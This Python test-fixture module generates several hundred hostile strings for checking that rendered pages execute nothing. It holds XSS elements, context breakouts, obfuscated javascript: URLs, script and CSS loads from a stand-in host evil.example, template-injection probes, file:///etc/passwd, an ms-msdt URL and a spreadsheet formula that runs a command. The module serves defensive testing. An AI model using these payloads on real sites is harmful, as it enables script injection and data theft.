"""Several hundred hostile strings: everything that might run, in everything that might let it."""

from collections.abc import Iterator

from tests.pages.hostile_more import MORE

#: What says that something ran; a page under test defines no such function.
RUNS = "window.__ran=1"

#: Elements that run or load something as soon as a browser makes them.
ELEMENTS = (
    f"<script>{RUNS}</script>",
    f"<ScRiPt >{RUNS}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img/src/onerror={RUNS}>",
    f"<svg/onload={RUNS}>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUNS}>#x"/></svg>',
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    f"<object data='data:text/html,<script>{RUNS}</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    f"<video><source onerror={RUNS}></video>",
    f"<input autofocus onfocus={RUNS}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "<form action=//evil.example/><button>go</button></form>",
    f"<a href=javascript:{RUNS} autofocus tabindex=1>x</a>",
)
#: What text may stand in, and be thought to end.
CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</style>{}",
    "</textarea></noscript></script>{}",
    "-->{}",
    "<!--><{}",
    "<![CDATA[{}]]>",
    "</svg></desc></text>{}",
    "`{}`",
    "> {}",
    "[{}](#x)",
)
#: Addresses that run something, in all their spellings.
ADDRESSES = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f"java\tscript:{RUNS}",
    f"java&#9;script:{RUNS}",
    f"java&Tab;script:{RUNS}",
    f"java&NewLine;script:{RUNS}",
    f"&#106;avascript:{RUNS}",
    f"&#x6A;avascript:{RUNS}",
    f"&#0000106avascript:{RUNS}",
    f"javascript&colon;{RUNS}",
    f"javascript&#58;{RUNS}",
    f"\x01javascript:{RUNS}",
    f"\u00a0javascript:{RUNS}",
    f"java\u200bscript:{RUNS}",
    f"java\u00adscript:{RUNS}",
    f"%6aavascript:{RUNS}",
    f"javascript%3a{RUNS}",
    f"java%0ascript:{RUNS}",
    f"javascript://%0a{RUNS}",
    f"ｊavascript:{RUNS}",
    f"vbscript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "ms-msdt:/id",
)
#: Where an address may stand in Markdown.
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({0})]({0})",
    "[x][r]\n\n[r]: {}",
    "<{}>",
    '[x]({} "onmouseover={}")',
    '<a href="{}">x</a>',
)
OTHERS = (
    # Half an element, mutation and what a parser repairs.
    "<", "<a", "</", "<!", "<?php", "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;", "<\x00script>", "<script",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUNS}>\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUNS}>\">",
    f"<math><annotation-xml encoding=text/html><script>{RUNS}</script>",
    f"<template><script>{RUNS}</script></template>",
    f"＜script＞{RUNS}＜/script＞", "ŚcRipt\u0131", "\u2028\u2029", "<ſcript>",
    # Attributes and style.
    f"\" onmouseover={RUNS} x=\"", f"' onfocus='{RUNS}' autofocus='", f"` onload=`{RUNS}",
    "\" style=\"background:url(//evil.example)",
    "};*{background:url(//evil.example/a)}", "expression(alert(1))", "url(javascript:alert(1))", "\\3c script\\3e",
    # Templates.
    "{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "{{ self.__init__.__globals__ }}", "{#",
    # Letters that nobody sees.
    "\u202eegap\u202c", "\u2066\u2067\u2068\u2069", "\u200e\u200f", "\x07\x1b[31mred\x1b[0m", "\x9b31m", "\x7f",
    "a\u0300\u0301\u0302\u0303", "\ufeff\u200b\u2060", "\U000e0041\U000e0042", "\ufffe\uffff",
    # Ids that would hide what a script looks for.
    "content", "top", "contents", "body", "head", "cookie", "getElementById", "__proto__", "constructor", "fill-9",
    "risk-1", "cite-F1-1", "location", "document", "attributes", "parentNode", "submit",
    # Markdown that opens what others must not close.
    "```", "~~~~", "    code", "***", "---", "| a | b |\n|---|---|\n| c |", "- [ ] x", "1. x\n2. y",
    "# h\n## i", "[F1]", "[F1](F1)",



             "```mermaid\nflowchart LR\nA[\"<img src=x onerror=window.__ran=1>\"] --> B\nclick A \"javascript:x\"\n```",
    "```html\n<script>window.__ran=1</script>\n```", "$_$ `a` *", "=cmd|' /C calc'!A0", "A" * 3000,
)  # fmt: skip


def hostile_strings() -> Iterator[str]:
    """Yield each string once."""
    found = [context.format(element) for context in CONTEXTS for element in ELEMENTS]
    found += [place.replace("{0}", "{}").replace("{}", address) for place in PLACES for address in ADDRESSES]
    yield from dict.fromkeys([*found, *OTHERS, *MORE])
